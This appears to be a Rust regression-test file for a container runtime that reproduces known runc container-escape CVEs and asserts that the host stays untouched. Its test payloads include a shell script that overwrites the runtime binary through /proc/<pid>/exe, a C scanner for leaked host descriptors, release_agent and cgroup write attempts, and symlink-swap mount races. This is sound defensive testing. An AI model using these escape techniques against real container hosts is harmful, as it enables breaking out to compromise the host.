//! Hostile root file systems and configurations, each with something outside that must stay as it is.
//!
//! Each test is named after what was once published, and each was seen to fail with the defence taken out.

use std::os::unix::fs::{MetadataExt as _, PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

use rustix::fs::{CWD, RenameFlags, renameat_with};
use serde_json::json;
use trial::{Test, need};

use crate::bundle::{Bundle, Said, runtime, strict};
use crate::until::until;

pub(crate) fn tests() -> Vec<Test> {
    let test = |name, body: fn()| Test::new(name, body).needs(need::root);
    vec![
        test("cve_2019_5736_the_runtime_is_not_overwritten", overwrite),
        test("cve_2019_5736_a_script_of_the_runtime_is_not_overwritten", overwrite_by_script),
        test("cve_2016_9962_exec_shows_no_descriptor", descriptors_during_exec),
        test("cve_2024_21626_no_descriptor_leads_out", working_directory),
        test("cve_2024_21626_what_the_caller_had_open_stays_out", callers_descriptors),
        test("cve_2016_3697_a_numeric_name_is_not_looked_up", numeric_name),
        test("cve_2024_40635_a_uid_of_the_config_does_not_wrap", wrapping_uid),
        // Debian's runc makes root of 4294967296 here.
        test("cve_2024_40635_a_uid_of_exec_does_not_wrap", wrapping_uid_of_exec).needs(strict),
        test("cve_2023_25809_cgroups_are_read_only", read_only_cgroups),
        test("cve_2023_25809_cgroups_are_read_only_without_root", read_only_cgroups_rootless).needs(strict),
        test("cve_2022_0492_no_release_agent", release_agent),
        test("cve_2021_30465_a_mount_is_not_led_out", mount_race).needs(strict),
        test("cve_2024_45310_nothing_is_made_outside", creation_race).needs(strict),
        test("cve_2023_27561_a_link_in_the_image_is_not_followed_out", links_in_the_image),
        test("cve_2022_29162_nothing_is_inheritable", inheritable),
        // Debian's runc makes its links in the host's folder.
        test("a_dev_that_links_to_the_host_stays_inside", linked_dev).needs(strict),
    ]
}

/// A file of the host's with this text.
fn canary(bundle: &Bundle) -> PathBuf {
    let path = bundle.path("canary");
    std::fs::write(&path, "host\n").expect("the folder is ours");
    path
}

/// A copy of the runtime that may be lost, and its content.
fn sacrificed() -> (tempfile::TempDir, PathBuf, Vec<u8>) {
    let folder = tempfile::tempdir_in("/var/tmp").expect("a temporary folder");
    let program = folder.path().join("runtime");
    std::fs::copy(runtime(), &program).expect("the runtime is a file");
    let content = std::fs::read(&program).expect("copied above");
    (folder, program, content)
}

/// Opens whatever runs a program that is not the container's, and writes into it as soon as the kernel lets it.
///
/// What is caught may be gone before it is opened. A redirection of `exec` would then end the shell, one of a group does not.
const GRAB: &str = r#"
overwrite() {
    echo "$program" >/grabbed
    # Lets the blocked program end: nobody writes into one that runs.
    cat /fifo >/dev/null 2>&1 &
    tries=0
    while [ $tries -lt 100 ]; do
        (echo overwritten >/proc/self/fd/9) 2>/errors && echo written >/written && break
        tries=$((tries + 1))
        sleep 0.01
    done
}
echo >/looking
until [ -e /grabbed ]; do
    for process in /proc/[0-9]*; do
        program=$(readlink $process/exe) || continue
        case $program in */busybox) continue ;; esac
        { overwrite; } 9<$process/exe && break
    done
done
echo over >/over
"#;

fn attack(bundle: &mut Bundle, attacked: &dyn Fn(&Bundle)) {
    bundle.spec["root"]["readonly"] = json!(false);
    bundle.set_script("exec sleep 600");
    rustix::fs::mknodat(CWD, bundle.rootfs("fifo"), rustix::fs::FileType::Fifo, 0o600.into(), 0)
        .expect("the folder is ours");
    bundle.start();
    let arguments = ["exec", "--detach", &bundle.id, "sh", "-c", GRAB];
    bundle.leaving(&arguments).fine();
    until("the attacker looks", || bundle.rootfs("looking").exists().then_some(()));
    attacked(bundle);
    let start = std::time::Instant::now();
    while !bundle.rootfs("grabbed").exists() && start.elapsed().as_secs() < 2 {
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    // Nothing may have been there to catch: then the attacker is told to stop.
    drop(std::fs::File::options().create(true).append(true).open(bundle.rootfs("grabbed")).expect("it is ours"));
    until("the attack is over", || bundle.rootfs("over").exists().then_some(()));
}

fn overwrite() {
    let (_folder, program, content) = sacrificed();
    let mut bundle = Bundle::of(&program);
    attack(&mut bundle, &|bundle| {
        // The runtime itself, run inside, blocked on a pipe that the attacker will read.
        let log = ["--log", "/fifo", "list"];
        bundle.leaving(&[&["exec", "--detach", &bundle.id, "/proc/self/exe"][..], &log].concat());
        // And a number of ordinary ones, any of which the attacker may catch.
        for _ in 0..10 {
            bundle.exec(&["/proc/self/exe", "--version"]);
        }
    });
    assert!(std::fs::read(&program).expect("it is there") == content, "the runtime was overwritten");
}

fn overwrite_by_script() {
    let (_folder, program, content) = sacrificed();
    let mut bundle = Bundle::of(&program);
    std::fs::write(bundle.rootfs("bin/innocent"), "#!/proc/self/exe\n").expect("the folder is ours");
    std::fs::set_permissions(bundle.rootfs("bin/innocent"), PermissionsExt::from_mode(0o755)).expect("it is ours");
    attack(&mut bundle, &|bundle| {
        for _ in 0..10 {
            bundle.exec(&["/bin/innocent"]);
        }
    });
    assert!(std::fs::read(&program).expect("it is there") == content, "the runtime was overwritten");
}

/// Looks, as fast as it can, for a way to the canary through every process that appears.
const WATCH: &str = r#"
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

static void look(int pid, const char *way) {
    char path[99];
    struct stat found;
    snprintf(path, sizeof path, "/proc/%d/%s/canary", pid, way);
    if (stat(path, &found)) return;
    FILE *leaked = fopen("/leaked", "a");
    fprintf(leaked, "%s\n", path);
    fclose(leaked);
}

int main(void) {
    close(open("/ready", O_CREAT | O_WRONLY, 0600));
    for (;;) {
        DIR *processes = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(processes));) {
            int pid = atoi(entry->d_name);
            if (pid <= 1) continue;
            look(pid, "cwd");
            look(pid, "root");
            for (int number = 0; number < 24; number++) {
                char way[9];
                snprintf(way, sizeof way, "fd/%d", number);
                look(pid, way);
            }
        }
        closedir(processes);
    }
}
"#;

fn descriptors_during_exec() {
    // Who may not trace must not see the process that comes; who may must find nothing of the host in it.
    for traces in [false, true] {
        let mut bundle = Bundle::new();
        canary(&bundle);
        bundle.compile("watch", WATCH);
        bundle.spec["root"]["readonly"] = json!(false);
        bundle.spec["process"]["args"] = json!(["watch"]);
        if traces {
            for set in ["bounding", "permitted", "effective"] {
                let set = bundle.spec["process"]["capabilities"][set].as_array_mut().expect("a list");
                set.push(json!("CAP_SYS_PTRACE"));
            }
        }
        bundle.start();
        until("it watches", || bundle.rootfs("ready").exists().then_some(()));
        let exec = bundle.command(&["exec", &bundle.id, "true"]);
        for _ in 0..30 {
            leaking(&bundle, &exec).fine();
        }
        let leaked = std::fs::read_to_string(bundle.rootfs("leaked")).unwrap_or_default();
        assert_eq!(leaked, "");
    }
}

/// Calls the runtime as a careless caller would, who has folders of the host open: 9 is the one of the canary.
fn leaking(bundle: &Bundle, command: &Command) -> Said {
    let mut shell = Command::new("bash");
    shell.args(["-c", r#"exec 3</ 4</etc/passwd 7</var 9<. 11</proc 21</; exec "$@""#, "sh"]);
    shell.arg(command.get_program()).args(command.get_args()).current_dir(bundle.path(""));
    Said::new(&shell.output().expect("bash starts"))
}

/// Where the host's canary is, seen from a folder of the host that is open by mistake.
fn escapes(canary: &Path) -> String {
    let name = canary.display();
    format!(
        "for up in . .. ../.. ../../.. ../../../.. ../../../../.. ../../../../../..; do cat $up{name} 2>/dev/null; done; pwd"
    )
}

fn working_directory() {
    let mut bundle = Bundle::new();
    let canary = canary(&bundle);
    bundle.set_script(&escapes(&canary));
    symlink("/proc/self/fd", bundle.rootfs("descriptors")).expect("the folder is ours");
    let inside = Bundle::script("exec sleep 600");
    inside.start();
    for number in 3..16 {
        for folder in
            [format!("/proc/self/fd/{number}"), format!("/descriptors/{number}"), format!("/proc/self/fd/{number}/")]
        {
            bundle.spec["process"]["cwd"] = json!(folder);
            bundle.write();
            let run = bundle.command(&["run", "--bundle", ".", &bundle.id]);
            let said = leaking(&bundle, &run);
            assert!(!said.out.contains("host"), "{folder}: {said:?}");
            let exec = inside.command(&["exec", "--cwd", &folder, &inside.id, "sh", "-c", &escapes(&canary)]);
            let said = leaking(&bundle, &exec);
            assert!(!said.out.contains("host"), "exec in {folder}: {said:?}");
        }
    }
    // The same beneath a link that is the working directory's parent.
    bundle.spec["process"]["cwd"] = json!("/descriptors/7/../../../../var/tmp");
    assert!(!bundle.run().out.contains("host"));
}

fn callers_descriptors() {
    let mut bundle = Bundle::new();
    bundle.set_script("ls /proc/self/fd | sort | tr '\\n' ' '");
    bundle.write();
    let run = bundle.command(&["run", "--bundle", ".", &bundle.id]);
    // Input, output, error, and the one with which ls reads the folder.
    assert_eq!(leaking(&bundle, &run).fine(), "0 1 2 3 ");
    let inside = Bundle::script("exec sleep 600");
    inside.start();
    let exec = inside.command(&["exec", &inside.id, "sh", "-c", "ls /proc/self/fd | sort | tr '\\n' ' '"]);
    assert_eq!(leaking(&bundle, &exec).fine(), "0 1 2 3 ");
    let first = inside.exec(&["ls", "/proc/1/fd"]).fine();
    assert_eq!(first, "0\n1\n2\n");
}

fn numeric_name() {
    let bundle = Bundle::script("exec sleep 600");
    let passwd = "root:x:0:0:root:/root:/bin/sh\n1000:x:0:0::/:/bin/sh\n";
    std::fs::write(bundle.rootfs("etc/passwd"), passwd).expect("the folder is ours");
    std::fs::write(bundle.rootfs("etc/group"), "root:x:0:\n1000:x:0:\n").expect("the folder is ours");
    bundle.start();
    let said =
        bundle.call(&["exec", "--user", "1000:1000", &bundle.id, "sh", "-c", "grep -E '^[UG]id' /proc/self/status"]);
    assert_eq!(said.fine(), "Uid:\t1000\t1000\t1000\t1000\nGid:\t1000\t1000\t1000\t1000\n");
}

fn wrapping_uid() {
    let mut bundle = Bundle::script("id -u");
    for uid in [
        json!(4_294_967_296_u64),
        json!(-1),
        json!(-4_294_967_296_i64),
        json!("0x0"),
        json!("0"),
        json!(0.5),
        json!(18_446_744_073_709_551_616_f64),
    ] {
        bundle.spec["process"]["user"] = json!({"uid": uid, "gid": 0});
        bundle.run().refused();
        bundle.spec["process"]["user"] = json!({"uid": 1, "gid": uid});
        bundle.run().refused();
        bundle.spec["process"]["user"] = json!({"uid": 1, "gid": 1, "additionalGids": [uid]});
        bundle.run().refused();
    }
    // This number means "leave it as it is" to the kernel: it must not become root by that.
    bundle.spec["process"]["user"] = json!({"uid": u32::MAX, "gid": u32::MAX});
    let said = bundle.run();
    assert_ne!(said.out, "0\n");
}

fn wrapping_uid_of_exec() {
    let passwd =
        "root:x:0:0:root:/root:/bin/sh\n4294967296:x:0:0::/:/bin/sh\n0x0:x:0:0::/:/bin/sh\n-1:x:0:0::/:/bin/sh\n";
    let inside = Bundle::script("exec sleep 600");
    std::fs::write(inside.rootfs("etc/passwd"), passwd).expect("the folder is ours");
    inside.start();
    for user in ["4294967296", "0x0", "-1", "4294967296:4294967296", "1:4294967296", "1:-1", "1:0x0", "+0", " 0", ""] {
        let argument = format!("--user={user}");
        let said = inside.call(&["exec", &argument, &inside.id, "id"]);
        // No user at all is the specification's.
        if user.is_empty() && said.code == Some(0) {
            continue;
        }
        assert!(matches!(said.code, Some(code) if code != 0), "{user:?}: {said:?}");
    }
}

/// Tries to make, to change and to remount, everywhere below the groups.
const WRITE_GROUPS: &str = "for d in /sys/fs/cgroup /sys/fs/cgroup/*; do [ -d $d ] || continue; \
    mkdir $d/windlass-escaped 2>/dev/null && echo made $d; \
    for f in cgroup.procs tasks notify_on_release release_agent cgroup.subtree_control; do \
    if [ -e $d/$f ] && (echo 1 >$d/$f) 2>/dev/null; then echo wrote $d/$f; fi; done; \
    mount -o remount,rw,bind $d 2>/dev/null && echo remounted $d; done; \
    grep -c cgroup /proc/self/mountinfo";

/// How many mounts of groups a script saw, of one that changed none.
fn kept(said: &Said) -> u32 {
    assert_eq!(said.code, Some(0), "{said:?}");
    said.out.trim().parse().unwrap_or_else(|_| panic!("groups could be written: {said:?}"))
}

fn read_only_cgroups() {
    for with_namespace in [false, true] {
        let mut bundle = Bundle::script(WRITE_GROUPS);
        if with_namespace {
            bundle.spec["linux"]["namespaces"].as_array_mut().expect("a list").push(json!({"type": "cgroup"}));
        }
        assert!(kept(&bundle.run()) > 0);
    }
}

fn read_only_cgroups_rootless() {
    // Users of the host's range that nobody has.
    let user = 65_000 + std::process::id() % 500;
    for with_namespace in [false, true] {
        let mut bundle = Bundle::script(WRITE_GROUPS);
        std::fs::set_permissions(bundle.path(""), PermissionsExt::from_mode(0o755)).expect("it is ours");
        for name in ["", "rootfs", "state", "err", "out"] {
            let path = bundle.path(name);
            if name == "state" {
                std::fs::create_dir(&path).expect("the folder is ours");
            }
            if path.exists() {
                std::os::unix::fs::chown(path, Some(user), Some(user)).expect("root may");
            }
        }
        let namespaces = bundle.spec["linux"]["namespaces"].as_array_mut().expect("a list");
        namespaces.retain(|namespace| namespace["type"] != "network");
        namespaces.push(json!({"type": "user"}));
        if with_namespace {
            namespaces.push(json!({"type": "cgroup"}));
        }
        bundle.spec["linux"]["uidMappings"] = json!([{"containerID": 0, "hostID": user, "size": 1}]);
        bundle.spec["linux"]["gidMappings"] = json!([{"containerID": 0, "hostID": user, "size": 1}]);
        bundle.spec["linux"].as_object_mut().expect("an object").remove("resources");
        for mount in bundle.spec["mounts"].as_array_mut().expect("a list") {
            if let Some(options) = mount["options"].as_array_mut() {
                options.retain(|option| option != "gid=5");
            }
            // A network that is the host's has the host's devices: only a bind of them is allowed.
            if mount["destination"] == "/sys" {
                *mount = json!({"destination": "/sys", "type": "none", "source": "/sys", "options": ["rbind", "nosuid", "noexec", "nodev", "ro"]});
            }
        }
        bundle.write();
        let folder = bundle.path("");
        let run = bundle.command(&["run", "--bundle", folder.to_str().expect("UTF-8"), &bundle.id]);
        let program = reachable(&bundle);
        let mut ordinary = Command::new("setpriv");
        let id = user.to_string();
        ordinary.args(["--reuid", &id, "--regid", &id, "--clear-groups", "env", "XDG_RUNTIME_DIR=/nonexistent"]);
        ordinary.args(["timeout", "60"]).arg(program).args(run.get_args().skip(3));
        let said = Said::new(&ordinary.output().expect("setpriv starts"));
        assert!(kept(&said) > 0);
    }
}

/// A copy of the runtime where an ordinary user reaches it.
fn reachable(bundle: &Bundle) -> PathBuf {
    let path = bundle.path("runtime");
    std::fs::copy(runtime(), &path).expect("the runtime is a file");
    std::fs::set_permissions(&path, PermissionsExt::from_mode(0o755)).expect("it is ours");
    path
}

fn release_agent() {
    let agents = || -> Vec<String> {
        let hierarchies = std::fs::read_dir("/sys/fs/cgroup").expect("it is mounted");
        hierarchies.filter_map(|entry| std::fs::read_to_string(entry.ok()?.path().join("release_agent")).ok()).collect()
    };
    let before = agents();
    // Neither what is mounted nor what a new user namespace may mount shows an agent that can be set.
    let script = "ls -d /sys/fs/cgroup/*/release_agent 2>/dev/null; \
        for d in /sys/fs/cgroup/*/; do (echo /evil >$d/release_agent) 2>/dev/null && echo wrote $d; done; \
        unshare -Urm sh -c 'for c in memory cpu pids systemd; do mount -t cgroup -o $c none /mnt 2>/dev/null || \
        mount -t cgroup -o none,name=$c none /mnt 2>/dev/null || continue; \
        (echo /evil >/mnt/release_agent) 2>/dev/null && echo wrote $c; umount /mnt; done'; echo over";
    let mut bundle = Bundle::script(script);
    for with_namespace in [false, true] {
        if with_namespace {
            bundle.spec["linux"]["namespaces"].as_array_mut().expect("a list").push(json!({"type": "cgroup"}));
        }
        assert_eq!(bundle.run().fine(), "over\n");
        assert_eq!(agents(), before);
    }
}

/// Exchanges two names over and over, until it goes.
struct Race {
    stop: Arc<AtomicBool>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl Race {
    fn new(one: PathBuf, other: PathBuf) -> Self {
        let stop = Arc::new(AtomicBool::new(false));
        let seen = Arc::clone(&stop);
        let thread = std::thread::spawn(move || {
            while !seen.load(Ordering::Relaxed) {
                // A moment's absence is the race's own doing.
                _ = renameat_with(CWD, &one, CWD, &other, RenameFlags::EXCHANGE);
                std::thread::sleep(std::time::Duration::from_micros(20));
            }
        });
        Self { stop, thread: Some(thread) }
    }
}

impl Drop for Race {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            _ = thread.join(); // a panic there is not this test's failure
        }
    }
}

/// A volume in which `inner` is a folder one moment and a link out of the container the next.
fn raced(bundle: &mut Bundle, outside: &Path) -> Race {
    let volume = bundle.path("volume");
    std::fs::create_dir_all(volume.join("inner")).expect("the folder is ours");
    // As many steps up as there are, from inside and from outside.
    symlink(format!("../../../../../../../../..{}", outside.display()), volume.join("link")).expect("it is ours");
    bundle.bind(&volume, "/volume", &["rw"]);
    Race::new(volume.join("inner"), volume.join("link"))
}

fn creation_race() {
    let mut bundle = Bundle::script("true");
    let outside = bundle.path("outside");
    std::fs::create_dir(&outside).expect("the folder is ours");
    let _race = raced(&mut bundle, &outside);
    bundle.mount(json!({"destination": "/volume/inner/made/deep", "type": "tmpfs", "source": "t"}));
    bundle.mount(
        json!({"destination": "/volume/inner/file", "type": "bind", "source": "/etc/hostname", "options": ["bind"]}),
    );
    for _ in 0..60 {
        bundle.run(); // it may fail: the race takes a folder away
        let made = std::fs::read_dir(&outside).expect("the folder is ours").count();
        assert_eq!(made, 0, "made outside");
        for name in ["inner/made", "inner/file", "link/made", "link/file"] {
            let path = bundle.path("volume").join(name);
            _ = std::fs::remove_dir_all(&path).or_else(|_| std::fs::remove_file(&path)); // there may be none
        }
    }
}

fn mount_race() {
    let mut bundle = Bundle::script("true");
    let (outside, landed) = (bundle.path("outside"), bundle.path("landed"));
    std::fs::create_dir_all(outside.join("deep/x")).expect("the folder is ours");
    let _race = raced(&mut bundle, &outside);
    bundle.mount(json!({"destination": "/volume/inner/deep", "type": "tmpfs", "source": "t"}));
    bundle.mount(json!({"destination": "/volume/inner/deep/x", "type": "tmpfs", "source": "t"}));
    // Run between the mounts and the change of the root, where the mounts have the host's names.
    let script = format!("grep ' {}/' /proc/self/mountinfo >>{}; true", outside.display(), landed.display());
    let hook = json!([{"path": "/bin/sh", "args": ["sh", "-c", script], "env": ["PATH=/bin:/usr/bin"]}]);
    bundle.spec["hooks"] = json!({"createContainer": hook});
    let (mut ran, mut rounds) = (0, 0);
    while rounds < 40 || ran == 0 && rounds < 400 {
        // It may fail: the race takes a folder away.
        ran += u32::from(bundle.run().code == Some(0));
        rounds += 1;
        let landed = std::fs::read_to_string(&landed).unwrap_or_default();
        assert_eq!(landed, "", "mounted outside");
    }
    assert!(ran > 0, "no run met the folder");
}

fn links_in_the_image() {
    // Every place where something is mounted is a link to the host.
    let mut bundle = Bundle::script("echo x >/mnt/one/written; echo x >/mnt/two/written; echo over");
    let outside = bundle.path("outside");
    std::fs::create_dir(&outside).expect("the folder is ours");
    symlink(&outside, bundle.rootfs("mnt/one")).expect("it is ours");
    symlink(format!("../../../../../../../..{}", outside.display()), bundle.rootfs("mnt/two")).expect("it is ours");
    for place in ["/mnt/one", "/mnt/two", "/mnt/one/made/deep"] {
        bundle.mount(json!({"destination": place, "type": "tmpfs", "source": "t"}));
    }
    let said = bundle.run();
    assert!(said.out.is_empty() || said.out == "over\n", "{said:?}");
    assert_eq!(std::fs::read_dir(&outside).expect("it is there").count(), 0, "{said:?}");
    // What was resolved inside was made inside.
    let inside = outside.strip_prefix("/").expect("it is absolute");
    assert!(said.code != Some(0) || bundle.rootfs("").join(inside).is_dir());
}

fn inheritable() {
    let mut bundle = Bundle::script("grep CapInh /proc/self/status");
    let set = json!(["CAP_CHOWN", "CAP_NET_RAW"]);
    bundle.spec["process"]["capabilities"] = json!({"bounding": set, "permitted": set, "effective": set});
    assert_eq!(bundle.run().fine(), "CapInh:\t0000000000000000\n");
    let inside = Bundle::script("exec sleep 600");
    inside.start();
    let said = inside.call(&["exec", "--cap", "CAP_NET_RAW", &inside.id, "grep", "CapInh", "/proc/self/status"]);
    assert_eq!(said.fine(), "CapInh:\t0000000000000000\n");
    assert_eq!(inside.exec(&["grep", "CapInh", "/proc/1/status"]).fine(), "CapInh:\t0000000000000000\n");
}

fn linked_dev() {
    let mut bundle = Bundle::script("ls /dev/windlass-canary 2>/dev/null; touch /dev/windlass-escaped; echo over");
    let outside = bundle.path("outside");
    std::fs::create_dir(&outside).expect("the folder is ours");
    std::fs::remove_dir(bundle.rootfs("dev")).expect("the folder is ours");
    symlink(&outside, bundle.rootfs("dev")).expect("it is ours");
    bundle.spec["linux"]["devices"] = json!([{"path": "/dev/fuse", "type": "c", "major": 10, "minor": 229}]);
    let null = std::fs::metadata("/dev/null").expect("the host has one").rdev();
    for with_mount in [true, false] {
        if !with_mount {
            let mounts = bundle.spec["mounts"].as_array_mut().expect("a list");
            mounts.retain(|mount| !mount["destination"].as_str().is_some_and(|path| path.starts_with("/dev")));
            bundle.spec["root"]["readonly"] = json!(false);
        }
        let said = bundle.run();
        assert!(said.out.is_empty() || said.out == "over\n", "{said:?}");
        assert_eq!(std::fs::read_dir(&outside).expect("it is there").count(), 0, "{said:?}");
        assert_eq!(std::fs::metadata("/dev/null").expect("the host has one").rdev(), null);
        assert!(!Path::new("/dev/windlass-escaped").exists());
    }
}
